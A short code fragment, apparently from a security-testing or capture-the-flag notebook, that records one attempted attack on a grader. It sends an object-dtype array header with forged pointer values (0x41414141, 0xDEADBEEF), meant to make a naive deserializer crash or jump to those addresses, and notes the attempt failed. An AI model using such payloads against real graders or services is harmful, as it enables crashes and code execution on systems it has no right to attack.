"""An array of type object, whose bytes would be taken for addresses.

naive: the grader crashes or runs what stands at the address.
uses: forge
failed: ConnectionDisturbed
"""
# %%
reply('["na","|O",[2],16]', struct.pack("QQ", 0x41414141, 0xDEADBEEF))
